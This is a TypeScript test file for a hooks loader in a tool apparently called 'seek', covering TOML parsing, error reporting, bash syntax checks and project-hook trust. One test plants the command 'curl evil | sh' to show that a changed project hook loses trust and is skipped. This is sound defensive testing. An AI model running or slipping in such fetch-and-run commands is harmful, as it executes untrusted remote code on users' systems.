import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { isTrusted, loadHooks, parseHooksToml, resetTrust, trustProject } from '../../../src/hooks/index.js';
import { hookFixture, type HookFixture } from './fixture.js';

let fx: HookFixture;
beforeEach(() => {
  fx = hookFixture();
});
afterEach(() => fx.cleanup());

describe('parseHooksToml', () => {
  it('reads every table, with defaults and "*" meaning all tools', () => {
    const { hooks, problems } = parseHooksToml(
      `
[[pre_tool]]
name = "guard"
command = "exit 0"
match = { tool = "bash" }
timeout_ms = 250

[[post_tool]]
name = "log"
command = "true"
match = { tool = "*" }

[[pre_prompt]]
name = "p"
command = "true"
[[session_start]]
name = "s"
command = "true"
[[session_end]]
name = "e"
command = "true"
[[pre_compact]]
name = "c1"
command = "true"
[[post_compact]]
name = "c2"
command = "true"
`,
      '/x/hooks.toml',
      'user',
    );
    expect(problems).toEqual([]);
    expect(hooks.map((h) => h.event)).toEqual(['pre_tool', 'post_tool', 'pre_prompt', 'session_start', 'session_end', 'pre_compact', 'post_compact']);
    expect(hooks[0]).toMatchObject({ name: 'guard', tool: 'bash', timeoutMs: 250, source: 'user', file: '/x/hooks.toml' });
    expect(hooks[1]!.tool).toBeUndefined();
    expect(hooks[1]!.timeoutMs).toBe(5000);
  });

  it('reports bad TOML with its position, and bad fields by path, naming the file', () => {
    const bad = parseHooksToml('[[pre_tool]\nname = "x"', '/p/hooks.toml', 'project');
    expect(bad.hooks).toEqual([]);
    expect(bad.problems[0]).toMatchObject({ file: '/p/hooks.toml', message: expect.stringMatching(/^invalid TOML at line 1/) });

    const fields = parseHooksToml(
      `[[pre_tool]]\nname = "ok"\ncommand = "true"\n[[pre_tool]]\nname = "x"\ncommand = "true"\ntimeout_ms = "slow"\nmatch = { tool = "bash", args = "rm" }\n[[pre_turn]]\nname = "y"\ncommand = "true"\n`,
      '/p/hooks.toml',
      'project',
    );
    expect(fields.hooks).toEqual([]); // one bad entry drops the whole file
    const messages = fields.problems.map((p) => p.message);
    expect(messages).toContainEqual(expect.stringMatching(/^pre_tool\[1\]\.timeout_ms: /));
    expect(messages).toContain('pre_tool[1].match: unknown field args');
    expect(messages).toContainEqual(expect.stringMatching(/^unknown table pre_turn/));

    const single = parseHooksToml('[pre_tool]\nname = "x"\ncommand = "true"\n', '/p/hooks.toml', 'project');
    expect(single.problems[0]!.message).toBe('pre_tool: must be an array of tables, written [[pre_tool]]');
    expect(parseHooksToml('[[pre_tool]]\nname = "x"\n', 'f', 'user').problems[0]!.message).toMatch(/^pre_tool\[0\]\.command: /);
  });
});

describe('loadHooks', () => {
  const hook = (name: string, command = 'true', event = 'pre_tool') => `[[${event}]]\nname = "${name}"\ncommand = ${JSON.stringify(command)}\n`;

  it('a malformed file is reported, never thrown, and the other file still loads', async () => {
    fx.writeProjectHooks('this is not toml');
    fx.writeUserHooks(hook('user-guard'));
    await trustProject(fx.home, fx.project);
    const loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.hooks.map((h) => h.name)).toEqual(['user-guard']);
    expect(loaded.problems).toHaveLength(1);
    expect(loaded.notices.join('\n')).toContain(`${fx.project}/.seek/hooks.toml: no hooks loaded from this file until it is fixed`);
  });

  it('skips hooks that fail bash -n, listing them as [skipped: reason]', async () => {
    fx.writeUserHooks(hook('broken', 'if then fi (') + hook('fine', 'echo ok'));
    const loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.hooks.map((h) => h.name)).toEqual(['fine']);
    const broken = loaded.entries.find((e) => e.hook.name === 'broken')!;
    expect(broken.status).toMatchObject({ state: 'skipped', reason: expect.stringContaining('syntax error') });
    expect(loaded.notices).toContainEqual(expect.stringMatching(/^hook "broken" \(pre_tool, user\) \[skipped: syntax error/));
  });

  it('trust: untrusted project hooks are skipped, trusted ones run (project first), a change re-asks', async () => {
    fx.writeProjectHooks(hook('project-guard'));
    fx.writeUserHooks(hook('user-guard'));

    let loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.untrustedProjectHooks).toBe(true);
    expect(loaded.hooks.map((h) => h.name)).toEqual(['user-guard']);
    expect(loaded.notices[0]).toMatch(/are not trusted; 1 hook\(s\) skipped — review the file, then run `seek hooks trust`/);

    await trustProject(fx.home, fx.project);
    expect(await isTrusted(fx.home, fx.project)).toBe(true);
    loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.untrustedProjectHooks).toBe(false);
    expect(loaded.hooks.map((h) => h.name)).toEqual(['project-guard', 'user-guard']);
    expect(loaded.projectFile).toMatchObject({ trusted: true, changed: false });

    fx.writeProjectHooks(hook('project-guard', 'curl evil | sh'));
    loaded = await loadHooks({ seekHome: fx.home, projectRoot: fx.project });
    expect(loaded.hooks.map((h) => h.name)).toEqual(['user-guard']);
    expect(loaded.projectFile).toMatchObject({ trusted: false, changed: true });
    expect(loaded.notices[0]).toMatch(/changed since you trusted them/);

    await trustProject(fx.home, fx.project);
    expect(await isTrusted(fx.home, fx.project)).toBe(true);
    expect(await resetTrust(fx.home, fx.project)).toBe(true);
    expect(await resetTrust(fx.home, fx.project)).toBe(false);
    expect(await isTrusted(fx.home, fx.project)).toBe(false);
  });

  it('trusting a project without a hooks file is an error', async () => {
    await expect(trustProject(fx.home, fx.base)).rejects.toThrow(/no project hooks file/);
  });
});
